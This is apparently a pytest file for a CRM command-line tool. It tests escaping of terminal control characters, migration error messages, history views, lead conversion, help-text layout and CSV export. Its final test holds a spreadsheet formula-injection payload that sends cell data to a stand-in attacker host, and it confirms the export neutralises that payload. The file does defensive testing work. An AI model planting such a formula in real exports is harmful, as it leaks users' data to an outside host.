"""Issue #15 on the command line (items 6-12, 16): real processes on a real database."""

from __future__ import annotations

import json
import os
import pty
import re
import socket
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from aicrm.cli.main import command, run
from tests.conftest import Database, clean_env, run_cli
from tests.migrate.test_failures import assert_one_line_error

NASTY = "\u0001\u0002\u001b[31m"


def _json(result: subprocess.CompletedProcess[str]) -> dict:
    assert result.returncode == 0, result.stderr
    value: dict = json.loads(result.stdout)
    return value


def at_a_terminal(db: Database, *args: str) -> bytes:
    """What ``aicrm ARGS`` writes to a terminal (a pseudo-terminal, 120 columns)."""
    leader, follower = pty.openpty()
    env = {**db.env, "COLUMNS": "120", "TERM": "xterm"}
    with subprocess.Popen(
        [sys.executable, "-m", "aicrm", *args], stdout=follower, stderr=subprocess.PIPE,
        env=env, cwd=db.workdir,
    ) as proc:  # fmt: skip
        os.close(follower)
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the terminal closed: the process is done writing
                break
            if not chunk:
                break
            chunks.append(chunk)
        assert proc.wait(timeout=60) == 0, proc.stderr.read() if proc.stderr else ""
    os.close(leader)
    return b"".join(chunks)


@pytest.mark.slow
def test_control_characters_are_escaped_in_text_and_tables(crm_db: Database) -> None:
    made = _json(crm_db.cli("leads", "create", "--first-name", NASTY, "--source", "tty",
                            "--json"))  # fmt: skip
    assert made["first_name"] == NASTY  # JSON stays exact
    assert _json(crm_db.cli("leads", "show", made["id"], "--json"))["first_name"] == NASTY
    for args in (("leads", "show", made["id"]), ("leads", "list", "--source", "tty")):
        piped = crm_db.cli(*args)
        assert piped.returncode == 0 and "\x1b" not in piped.stdout and "\x01" not in piped.stdout
        assert "\\x01\\x02\\x1b[31m" in piped.stdout, piped.stdout
        shown = at_a_terminal(crm_db, *args)
        assert b"\x01" not in shown and b"\x1b[31m" not in shown, shown
        assert b"\\x01\\x02\\x1b[31m" in shown, shown


def test_serve_with_the_database_unreachable_is_one_line_and_exit_2(tmp_path: Path) -> None:
    with socket.socket() as sock:  # a port nothing listens on
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    env = clean_env(DATABASE_URL=f"postgresql://postgres@127.0.0.1:{port}/crm",
                    AICRM_HOME=str(tmp_path))  # fmt: skip
    result = run_cli("serve", "--port", "1", env=env, cwd=tmp_path, timeout=60)
    line = assert_one_line_error(result, 2)
    assert f"127.0.0.1:{port}/crm" in line


@pytest.mark.parametrize("args", [("leads", "create", "--first-name", "Ada"),
                                  ("clients", "list"), ("apikey", "list"), ("serve",),
                                  ("mcp", "--api-key", "aicrm_x")])  # fmt: skip
@pytest.mark.slow
def test_commands_on_an_unmigrated_database_say_migrate(db: Database, args: tuple[str]) -> None:
    line = assert_one_line_error(db.cli(*args), 2)
    assert "run 'aicrm db migrate'" in line.lower(), line
    # Following the advice works.
    assert db.cli("db", "migrate").returncode == 0
    if args[0] not in ("serve", "mcp"):  # those serve until stopped
        assert db.cli(*args).returncode == 0


@pytest.mark.slow
def test_an_older_schema_says_migrate(db: Database) -> None:
    assert db.cli("db", "migrate", "--target", "003").returncode == 0
    line = assert_one_line_error(db.cli("leads", "list"), 2)
    assert "version 003" in line and "aicrm db migrate" in line


@pytest.mark.slow
def test_as_of_shows_the_updated_at_of_that_moment(crm_db: Database) -> None:
    made = _json(crm_db.cli("leads", "create", "--first-name", "Ada", "--json"))
    between = datetime.now(UTC).isoformat()
    changed = _json(crm_db.cli("leads", "update", made["id"], "--last-name", "Hopper", "--json"))
    assert changed["updated_at"] != made["updated_at"]
    then = _json(crm_db.cli("leads", "show", made["id"], "--as-of", between, "--json"))
    assert then["last_name"] is None and then["updated_at"] == made["updated_at"]
    now = _json(crm_db.cli("leads", "show", made["id"], "--as-of",
                           datetime.now(UTC).isoformat(), "--json"))  # fmt: skip
    assert now["updated_at"] == changed["updated_at"]


@pytest.mark.slow
def test_history_shows_values_as_json(crm_db: Database) -> None:
    made = _json(crm_db.cli("leads", "create", "--first-name", "Ada", "--attr", "plan=pro",
                            "--json"))  # fmt: skip
    assert crm_db.cli("leads", "update", made["id"], "--last-name", "Hopper",
                      "--attr", "plan=enterprise").returncode == 0  # fmt: skip
    text = crm_db.cli("leads", "history", made["id"]).stdout
    assert 'last_name: null -> "Hopper"' in text, text
    assert '"plan": "enterprise"' in text and "None" not in text and "'" not in text, text


@pytest.mark.slow
def test_convert_many_by_filter_takes_open_leads_only(crm_db: Database) -> None:
    ids = {}
    for status in ("new", "qualified", "lost", "unqualified"):
        ids[status] = _json(crm_db.cli("leads", "create", "--first-name", status, "--source",
                                       "event", "--status", status, "--json"))["id"]  # fmt: skip
    done = _json(crm_db.cli("leads", "convert-many", "--source", "event", "--json"))
    assert done["converted"] == 2, done
    converted = {
        str(row[0])
        for row in crm_db.execute("SELECT id FROM leads WHERE is_converted AND source = 'event'")
    }
    assert converted == {ids["new"], ids["qualified"]}
    # Asked otherwise: the closed ones too.
    more = _json(crm_db.cli("leads", "convert-many", "--source", "event", "--include-closed",
                            "--json"))  # fmt: skip
    assert more["converted"] == 2


@pytest.mark.slow
def test_delete_clients_and_contacts_from_the_cli(crm_db: Database) -> None:
    lead = _json(crm_db.cli("leads", "create", "--email", "a@b.io", "--json"))
    done = _json(crm_db.cli("leads", "convert", lead["id"], "--json"))
    client = done["client_id"]
    refused = assert_one_line_error(crm_db.cli("clients", "delete", client), 5)
    assert "converted leads" in refused
    lone = _json(crm_db.cli("clients", "create", "--name", "Solo", "--json"))
    contact = _json(crm_db.cli("contacts", "create", "--client", lone["id"], "--email",
                               "c@solo.io", "--json"))  # fmt: skip
    refused = assert_one_line_error(crm_db.cli("clients", "delete", lone["id"]), 5)
    assert "contacts first" in refused
    assert crm_db.cli("contacts", "delete", contact["id"]).returncode == 0  # the advice
    assert crm_db.cli("clients", "delete", lone["id"]).returncode == 0
    assert crm_db.scalar("SELECT count(*) FROM clients WHERE id = %s", (lone["id"],)) == 0
    assert_one_line_error(crm_db.cli("contacts", "delete", contact["id"]), 4)


# --- help text (item 16) -------------------------------------------------------------


def commands(cmd, path=()):
    yield path, cmd
    for name, sub in getattr(cmd, "commands", {}).items():
        yield from commands(sub, (*path, name))


@pytest.mark.slow
def test_every_help_reads_well_at_80_columns(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    walked = 0
    for path, cmd in commands(command()):
        if getattr(cmd, "hidden", False):
            continue
        assert run([*path, "--help"]) == 0, path
        text = capsys.readouterr().out
        where = " ".join(path) or "aicrm"
        assert (cmd.help or "").strip(), f"{where}: no help text"
        for line in text.splitlines():
            assert len(line) <= 80, f"{where}: line over 80 columns: {line!r}"
        stray = re.search(r"\S [.,;:](\s|$)", text)  # "version ." (not "./backups")
        assert stray is None, f"{where}: a space before punctuation: {stray}\n{text}"
        assert not re.search(r"-[\w-]*…", text), f"{where}: an option's name cut\n{text}"
        for bad in ("<str>", "<bool>", "<list", "<int", "<float", "<path>"):
            assert bad not in text, f"{where}: {bad!r} in\n{text}"
        assert "[default: no-" not in text, f"{where}: a flag's default\n{text}"
        walked += 1
    assert walked > 40


def test_db_status_says_baseline_or_applied_once(crm_db: Database) -> None:
    text = crm_db.cli("db", "status").stdout
    assert "(applied)" not in text and "applied 000_original_schema" in text, text


@pytest.mark.slow
def test_cli_export_neutralises_formulas_unless_raw(crm_db: Database) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert crm_db.cli("leads", "create", "--first-name", evil, "--source", "csv").returncode == 0
    safe = crm_db.cli("leads", "export", "-", "--source", "csv")
    assert safe.returncode == 0 and "'=HYPERLINK" in safe.stdout, safe.stdout
    raw = crm_db.cli("leads", "export", "-", "--source", "csv", "--raw")
    assert raw.returncode == 0 and "'=HYPERLINK" not in raw.stdout and "=HYPERLINK" in raw.stdout
